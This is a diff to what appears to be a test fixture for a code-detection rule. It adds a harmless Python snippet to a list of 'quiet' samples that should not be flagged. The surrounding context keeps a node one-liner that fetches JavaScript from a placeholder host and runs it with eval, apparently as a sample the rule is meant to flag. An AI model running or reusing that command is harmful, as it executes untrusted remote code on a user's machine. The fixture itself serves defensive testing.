@@ -61,6 +61,7 @@ export default defineRule({
       "`node -e \"require('https').get('https://polish.rows.example/m.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\"`\n",
     ],
     quiet: [
+      '```python\nkey = session.get(ApiKey, 7)\n\ndef require(scope: str):\n    def dep(key: ApiKey):\n        return key\n    return dep\n```\n',
       '```lua\nhttp.fetch({url = "http://api.rowan-pike.net/t"}, function(r)\n  rows = core.parse_json(r.data)\nend)\n```\n',
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://localhost:5173')\n```\n",
       '```python\nimport requests\nrows = requests.get("https://api.rowan-pike.net/rows").json()\nimport report\nreport.write(rows)\n```\n',
